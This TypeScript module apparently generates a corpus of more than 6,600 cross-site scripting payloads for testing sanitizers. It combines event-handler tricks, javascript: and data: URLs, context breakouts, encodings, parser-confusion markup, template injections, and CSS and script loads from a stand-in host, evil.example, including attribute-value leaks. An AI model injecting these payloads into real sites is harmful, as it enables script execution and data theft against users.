/**
 * Strings that a browser would execute if it interpreted them as markup, a script, a style or an address: all
 * combinations of the components of such attacks.
 */

/** The call that each attack performs. */
export const ATTACK_CALL = 'alert(1)';

/** Placeholder for an inserted string. */
const PLACEHOLDER = '¤';

/** A host of the attacker. */
const ATTACKER_HOST = '//evil.example/';

/** Elements whose handler runs without user interaction: head, handler, and required rest. */
const SELF_FIRING_ELEMENTS: readonly (readonly [head: string, handler: string, rest?: string])[] = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['input type=image src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['x tabindex=1 autofocus', 'onfocus'],
  ['p contenteditable autofocus', 'onfocus'],
  ['iframe', 'onload'],
  ['iframe srcdoc=x', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror', '</video>'],
  ['video><track default src=x', 'onerror', '</video>'],
  ['picture><source srcset=x><img src=x', 'onerror', '</picture>'],
  ['details open', 'ontoggle', 'x</details>'],
  ['marquee loop=1 width=0', 'onstart', 'x</marquee>'],
  ['style', 'onload', '</style>'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror', '</script>'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['frameset', 'onload'],
  ['svg', 'onload'],
  ['svg><image href=x', 'onerror', '</svg>'],
  ['svg><animate attributeName=x dur=1s', 'onbegin', '</svg>'],
  ['svg><set attributeName=x', 'onbegin', '</svg>'],
  ['math><maction actiontype=toggle', 'onclick', 'x</maction></math>'],
];

/** Spellings of a handler; H is its name. */
const HANDLER_SPELLINGS: readonly string[] = [
  ...[
    ' H=¤>',
    ' H="¤">',
    " H='¤'>",
    '/H=¤>',
    '\tH=¤>',
    '\nH=¤>',
    '\fH=¤>',
    '\r\nH=¤>',
    ' H = ¤>',
    ' H\n=\n¤>',
  ],
  ...[
    ' x=">" H=¤>',
    " x='a'H=¤>",
    ' x=`>` H=¤>',
    ' H=¤//',
    ' H=¤ ',
    ' H=¤;x=">',
    ' H="¤',
    '/x=y/H=¤>',
    ' =x H=¤>',
  ],
  ...[
    ' x H=¤ x>',
    ' H=¤ H=x>',
    ' x=<!-- H=¤>',
    ' H=¤\u0000>',
    '\u0000H=¤>',
    ' "H=¤>',
    " 'H=¤>",
    ' \u00a0H=¤>',
  ],
];

/** Spellings of a call. */
const CALLS: readonly string[] = [
  ...[
    ATTACK_CALL,
    'alert`1`',
    '(alert)(1)',
    "top['al'+'ert'](1)",
    'window.alert(1)',
    'al\\u0065rt(1)',
    '[1].find(alert)',
  ],
  ...['alert?.(1)', 'alert(1)//', ';alert(1);', "eval('alert(1)')", "eval('al'+'ert(1)')", 'this.alert(1)'],
  ...[
    "Function('alert(1)')()",
    "setTimeout('alert(1)')",
    "self[atob('YWxlcnQ=')](1)",
    '{alert(1)}',
    '!alert(1)',
  ],
  ...[
    '&#97;lert(1)',
    '&#x61;lert(1)',
    '&#0000097lert(1)',
    'alert&lpar;1&rpar;',
    'alert&#40;1&#41;',
    'alert(1)&#13;',
  ],
  ...[
    "import('data:text/javascript,alert(1)')",
    'javascript:alert(1)',
    'throw onerror=alert,1',
    'a=alert;a(1)',
  ],
];

const TAGS: readonly string[] = [
  ...[
    'a',
    'abbr',
    'article',
    'audio',
    'b',
    'blink',
    'body',
    'br',
    'button',
    'canvas',
    'center',
    'dialog',
    'div',
  ],
  ...[
    'embed',
    'fieldset',
    'font',
    'form',
    'h1',
    'hr',
    'html',
    'iframe',
    'img',
    'input',
    'label',
    'li',
    'main',
  ],
  ...[
    'map',
    'marquee',
    'math',
    'meter',
    'nav',
    'object',
    'ol',
    'optgroup',
    'output',
    'p',
    'q',
    'section',
    'select',
  ],
  ...['slot', 'span', 'svg', 'table', 'td', 'textarea', 'time', 'ul', 'video', 'x', 'x-y'],
];

const HANDLERS: readonly string[] = [
  ...[
    'abort',
    'afterprint',
    'animationend',
    'animationiteration',
    'animationstart',
    'auxclick',
    'beforecopy',
  ],
  ...['beforecut', 'beforeinput', 'beforeprint', 'beforetoggle', 'beforeunload', 'blur', 'cancel', 'canplay'],
  ...['change', 'click', 'close', 'contextmenu', 'copy', 'cuechange', 'cut', 'dblclick', 'drag', 'dragend'],
  ...['dragenter', 'drop', 'durationchange', 'ended', 'error', 'focus', 'focusin', 'focusout', 'formdata'],
  ...[
    'fullscreenchange',
    'gotpointercapture',
    'hashchange',
    'input',
    'invalid',
    'keydown',
    'keypress',
    'keyup',
  ],
  ...[
    'load',
    'loadeddata',
    'loadend',
    'loadstart',
    'message',
    'mousedown',
    'mouseenter',
    'mousemove',
    'mouseover',
  ],
  ...[
    'mouseup',
    'mousewheel',
    'online',
    'pagehide',
    'pageshow',
    'paste',
    'play',
    'pointerdown',
    'pointerover',
  ],
  ...[
    'popstate',
    'progress',
    'reset',
    'resize',
    'scroll',
    'scrollend',
    'search',
    'select',
    'storage',
    'submit',
  ],
  ...['toggle', 'touchstart', 'transitionend', 'unload', 'volumechange', 'wheel'],
];

/** Attributes that contain an address, each with an element. */
const ADDRESS_ATTRIBUTES: readonly string[] = [
  ...[
    '<a href="¤">x</a>',
    '<area href="¤">',
    '<base href="¤">',
    '<link rel=stylesheet href="¤">',
    '<iframe src="¤">',
  ],
  ...[
    '<frame src="¤">',
    '<embed src="¤">',
    '<object data="¤">',
    '<script src="¤"></script>',
    '<img src="¤">',
  ],
  ...[
    '<input type=image src="¤">',
    '<form action="¤"><button>x',
    '<button formaction="¤">x',
    '<video poster="¤">',
  ],
  ...[
    '<audio src="¤">',
    '<body background="¤">',
    '<table background="¤">',
    '<applet code="¤">',
    '<a ping="¤" href=#>x',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=¤">',
    '<svg><a xlink:href="¤"><text y=9>x',
    '<svg><use href="¤">',
  ],
  ...['<svg><image href="¤">', '<svg><script href="¤"></script>', '<svg><animate attributeName=href to="¤">'],
  ...['<math href="¤">x', '<link rel=import href="¤">', '<link rel=manifest href="¤">', '<portal src="¤">'],
];

const ADDRESSES: readonly string[] = [
  ...[
    'javascript:¤',
    'JaVaScRiPt:¤',
    ' javascript:¤',
    '\u0001javascript:¤',
    'java\tscript:¤',
    'java\nscript:¤',
  ],
  ...[
    'java&Tab;script:¤',
    'java&#10;script:¤',
    'javascript&colon;¤',
    '&#106;avascript:¤',
    '&#x6A;avascript:¤',
  ],
  ...[
    '&#0000106avascript:¤',
    'javascript:%61lert(1)',
    'javascript://%0a¤',
    'javascript:/*-->*/¤',
    'javascript\u0000:¤',
  ],
  ...['data:text/html,<script>¤</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ...[
    'data:image/svg+xml,<svg onload=¤>',
    'data:text/javascript,¤',
    'data:,¤',
    'vbscript:¤',
    'feed:javascript:¤',
  ],
  ...[
    'view-source:javascript:¤',
    'blob:¤',
    `https:${ATTACKER_HOST}`,
    ATTACKER_HOST,
    '\\\\evil.example\\',
    '/\\evil.example/',
  ],
  ...['http://127.0.0.1@evil.example/', 'http:evil.example', 'file:///etc/passwd', 'ftp://evil.example/'],
];

/** Strings that end the surrounding context. */
const CONTEXT_CLOSERS: readonly string[] = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '`>',
    '>',
    '-->',
    '--!>',
    '*/',
    ']]>',
    '?>',
    '%>',
    '</title>',
    '</textarea>',
  ],
  ...[
    '</style>',
    '</script>',
    '</noscript>',
    '</xmp>',
    '</iframe>',
    '</template>',
    '</svg>',
    '</math>',
    '</select>',
  ],
  ...['</option></select>', '</table>', '</button>', '\\">', '&quot;>', '"]}</script>', "'}</style>", '\n\n'],
];

/** Markup after the end of the context. */
const INJECTED_MARKUP: readonly string[] = [
  ...[
    `<script>${ATTACK_CALL}</script>`,
    `<img src=x onerror=${ATTACK_CALL}>`,
    `<svg onload=${ATTACK_CALL}>`,
    `<svg/onload=${ATTACK_CALL}>`,
  ],
  ...[
    ` onmouseover=${ATTACK_CALL} x=`,
    ` autofocus onfocus=${ATTACK_CALL} x=`,
    `<iframe src=javascript:${ATTACK_CALL}>`,
  ],
  ...[
    `<a href=javascript:${ATTACK_CALL}>x</a>`,
    `<base href=${ATTACKER_HOST}>`,
    `<style>*{display:none}</style>`,
  ],
  ...[
    `<link rel=stylesheet href=${ATTACKER_HOST}>`,
    `<details open ontoggle=${ATTACK_CALL}>`,
    `<!--`,
    `<plaintext>`,
  ],
  ...[
    `<meta http-equiv=refresh content=0;${ATTACKER_HOST}>`,
    `<form action=${ATTACKER_HOST}><input type=submit>`,
  ],
];

/** Strings that end a string of a script, and separators. */
const QUOTES = [
  "'",
  '"',
  '`',
  "\\'",
  '\\"',
  '\\\\"',
  '\u2028',
  '\n',
  '*/',
  '</script><script>',
  '-->',
  ']]>',
  '',
];
const STATEMENTS = [
  ...[
    ';¤;//',
    '-¤-',
    '+¤+',
    ',¤,',
    ');¤;(',
    '};¤;{',
    '||¤||',
    '&&¤&&',
    ':¤?',
    ';¤;/*',
    ';¤<!--',
    '${¤}',
    '];¤;[',
  ],
];

const STYLES: readonly string[] = [
  ...[
    `@import '${ATTACKER_HOST}x.css';`,
    `*{background:url(${ATTACKER_HOST}x)}`,
    '*{display:none}',
    'x:expression(¤)',
  ],
  ...[
    '*{behavior:url(#default#time2)}',
    `*{-moz-binding:url(${ATTACKER_HOST}x#x)}`,
    'li{list-style:url("javascript:¤")}',
  ],
  ...[
    '@font-face{font-family:x;src:url(//evil.example/f)}',
    '@\\69mport "//evil.example/";',
    '*{color:red}/*',
  ],
  ...['input[value^=a]{background:url(//evil.example/a)}', '@keyframes x{}*{animation:x 1s}', 'body{zoom:0}'],
  ...[
    '*{position:fixed;inset:0;background:#fff}',
    '}*{display:none}',
    '\\3c/style>',
    'html::after{content:"¤"}',
  ],
];
const STYLED_ELEMENTS = [
  '<style>¤</style>',
  '<STYLE>¤',
  '<div style="¤">x',
  "<b style='¤'>",
  '<svg><style>¤',
  '</style><style>¤',
  '¤',
];

/** Contexts with other parsing rules, and content that is text until a parser is misled. */
const PARSER_SWITCHES: readonly string[] = [
  ...[
    '<svg>',
    '<math>',
    '<math><mtext>',
    '<math><mi>',
    '<svg><desc>',
    '<svg><foreignObject>',
    '<svg><title>',
  ],
  ...[
    '<math><annotation-xml encoding="text/html">',
    '<table>',
    '<select>',
    '<template>',
    '<form><math><mtext></form><form>',
  ],
  ...[
    '<p><table>',
    '<math><mtext><table><mglyph>',
    '<svg></p>',
    '<noscript>',
    '<frameset>',
    '<ruby><rt>',
    '<option>',
  ],
];
const RAW_TEXTS = [
  ...[
    '<style>',
    '<title>',
    '<textarea>',
    '<xmp>',
    '<noscript>',
    '<iframe>',
    '<noembed>',
    '<noframes>',
    '<!--',
    '<![CDATA[',
  ],
  ...['<style><!--</style>', '<a title="</style>', '<mglyph><style>', '<script><!--<script>', '<plaintext>'],
];
const MISLEADING_TEXTS = [
  `<img src=x onerror=${ATTACK_CALL}>`,
  `--><img src=x onerror=${ATTACK_CALL}>`,
  `</style><img title="--&gt;" onerror=${ATTACK_CALL} src=x>`,
];

const ENCODED_TEXTS: readonly string[] = [
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    'javascript:alert(1)',
  ],
  ...[
    '"><script>alert(1)</script>',
    "' onmouseover=alert(1) x='",
    '</title><b>',
    '<a href=//evil.example>',
    '<!--',
  ],
  ...["';alert(1);//", '<iframe srcdoc="<script>alert(1)</script>">', '${alert(1)}', '<b>bold</b>'],
];

type Encoding = (text: string) => string;
const eachOf =
  (encode: (code: number, character: string) => string): Encoding =>
  (text) =>
    Array.from(text)
      .map((character) => encode(character.codePointAt(0) ?? 0, character))
      .join('');
const signs =
  (encode: (code: number) => string): Encoding =>
  (text) =>
    text.replaceAll(/[<>"'&():]/g, (sign) => encode(sign.charCodeAt(0)));
const hex = (code: number, digits = 2): string => code.toString(16).padStart(digits, '0');

const ENCODINGS: readonly Encoding[] = [
  signs((code) => `&#${code};`),
  signs((code) => `&#x${hex(code)};`),
  signs((code) => `&#${String(code).padStart(7, '0')}`),
  signs((code) => `&amp;#${code};`),
  eachOf((code) => `&#${code};`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&LT').replaceAll('>', '&GT'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  signs((code) => `%u00${hex(code)}`),
  signs((code) => `\\u00${hex(code)}`),
  signs((code) => `\\x${hex(code)}`),
  signs((code) => `\\${code.toString(8)}`),
  signs((code) => `\\${hex(code)} `),
  signs((code) => `+A${hex(code)}-`),
  signs((code) => String.fromCharCode(code + 0xfee0)),
  // Bytes of an overlong form, decoded without UTF-8.
  signs((code) => String.fromCharCode(0xc0 + (code >> 6), 0x80 + (code & 63))),
  eachOf((_, character) => `${character}\u0000`),
  eachOf((_, character) => `${character}\u200b`),
  eachOf((_, character) => `${character}\u00ad`),
  eachOf((_, character) => `${character}\u0301`),
  (text) => `\u202e${Array.from(text).reverse().join('')}\u202c`,
  (text) => `\ufeff${text}`,
  (text) => text.replaceAll('s', '\u017f').replaceAll('i', '\u0131'),
  (text) => text.replaceAll('script', 'scr<!-- -->ipt'),
  (text) => text.replaceAll('script', 'scrscriptipt'),
  (text) => text.toUpperCase(),
  (text) => JSON.stringify(text),
  (text) => Buffer.from(text).toString('base64'),
];

const TEMPLATES: readonly string[] = [
  ...[
    '{{¤}}',
    '{{{¤}}}',
    '${¤}',
    '#{¤}',
    '<%= ¤ %>',
    '<%- ¤ %>',
    '{% ¤ %}',
    '[[¤]]',
    '@(¤)',
    '@{¤}',
    '*{¤}',
    '~{¤}',
  ],
  ...[
    '<x ng-app ng-init="¤">',
    '<x v-html="¤">',
    '<x @click="¤">',
    '<x :src="¤">',
    '<x x-data x-init="¤">',
    '`¤`',
  ],
];
const EXPRESSIONS: readonly string[] = [
  ...[
    ATTACK_CALL,
    '7*7',
    "constructor.constructor('alert(1)')()",
    "_c.constructor('alert(1)')()",
    'this',
    '__proto__',
  ],
  ...[
    "''.constructor.fromCharCode(65)",
    '$eval.constructor(1)',
    'process.env',
    '{"__html":"<b>"}',
    'toString',
  ],
];

const SCRIPTS: readonly string[] = [
  ...['<script>¤</script>', '<SCRIPT>¤</SCRIPT>', '<script\u0020>¤</script\u0020>', '<script/x>¤</script>'],
  ...[
    '<script\n>¤</script\n>',
    '<<script>¤</script>',
    '<scr<script>ipt>¤</script>',
    '<script>¤',
    '<script>¤</script x>',
  ],
  ...[
    '<script src=//evil.example></script>',
    '<script src=data:,¤></script>',
    '<script type=module>¤</script>',
  ],
  ...[
    "<script type=module>import('//evil.example/')</script>",
    '<script async src=//evil.example/>',
    '<script>//-->¤',
  ],
  ...['<script type=importmap>{"imports":{"x":"//evil.example/"}}</script>', '<script nonce>¤</script>'],
  ...[
    '<script defer src=//evil.example/x.js></script>',
    '<?xml version="1.0"?><script>¤</script>',
    '<!DOCTYPE x><script>¤',
  ],
  ...[
    '<![CDATA[<script>¤</script>]]>',
    '<!--><script>¤</script>-->',
    '<!-- --!><script>¤</script>',
    '<?x><script>¤</script>',
  ],
  ...[
    '<svg><script>¤</script></svg>',
    '<svg><script>al&#101;rt(1)</script></svg>',
    '<math><script>¤</script></math>',
  ],
];

function withAttackCall(text: string): string {
  return text.replaceAll(PLACEHOLDER, ATTACK_CALL);
}

function combine(
  outer: readonly string[],
  inner: readonly string[],
  join: (one: string, other: string) => string,
) {
  return outer.flatMap((one) => inner.map((other) => join(one, other)));
}

/** Returns an item of a list by index modulo its length, so that neighbors differ. */
function pickCyclic<Value>(list: readonly Value[], at: number): Value {
  const found = list[at % list.length];
  if (found === undefined) throw new Error('the list is empty');
  return found;
}

function spellHandler(head: string, handler: string, [spelling, call]: readonly [string, string]): string {
  return `<${head}${spelling.replace('H', handler).replace(PLACEHOLDER, () => call)}`;
}

function listHandlers(): readonly string[] {
  const alone = SELF_FIRING_ELEMENTS.flatMap(([head, handler, rest = ''], row) => [
    ...HANDLER_SPELLINGS.map((spelling) => spellHandler(head, handler, [spelling, ATTACK_CALL]) + rest),
    ...CALLS.map(
      (call, at) => spellHandler(head, handler, [pickCyclic(HANDLER_SPELLINGS, 3 * at + row), call]) + rest,
    ),
  ]);
  const all = TAGS.flatMap((tag, row) =>
    HANDLERS.filter((_, at) => (at + row) % 2 === 0).map((handler, at) =>
      spellHandler(tag, `on${handler}`, [
        pickCyclic(HANDLER_SPELLINGS, 5 * at + row),
        pickCyclic(CALLS, at + 3 * row),
      ]),
    ),
  );
  return [...alone, ...all];
}

function listAllTexts(): readonly string[] {
  return [
    ...SCRIPTS.map(withAttackCall),
    ...listHandlers(),
    ...ADDRESSES.map(withAttackCall),
    ...combine(ADDRESS_ATTRIBUTES, ADDRESSES, (element, address) =>
      element.replace(PLACEHOLDER, () => withAttackCall(address)),
    ),
    ...combine(CONTEXT_CLOSERS, INJECTED_MARKUP, (closer, intruder) => closer + intruder),
    ...combine(QUOTES, STATEMENTS, (quote, statement) => quote + withAttackCall(statement)),
    ...combine(STYLED_ELEMENTS, STYLES, (element, style) =>
      element.replace(PLACEHOLDER, () => withAttackCall(style)),
    ),
    ...combine(
      PARSER_SWITCHES,
      combine(RAW_TEXTS, MISLEADING_TEXTS, (raw, text) => raw + text),
      (place, text) => place + text,
    ),
    ...ENCODINGS.flatMap((encode) => ENCODED_TEXTS.map(encode)),
    ...combine(TEMPLATES, EXPRESSIONS, (template, text) => template.replace(PLACEHOLDER, () => text)),
  ];
}

/** More than 6,613 different strings. */
export const HOSTILE_MARKUP: readonly string[] = [...new Set(listAllTexts())];
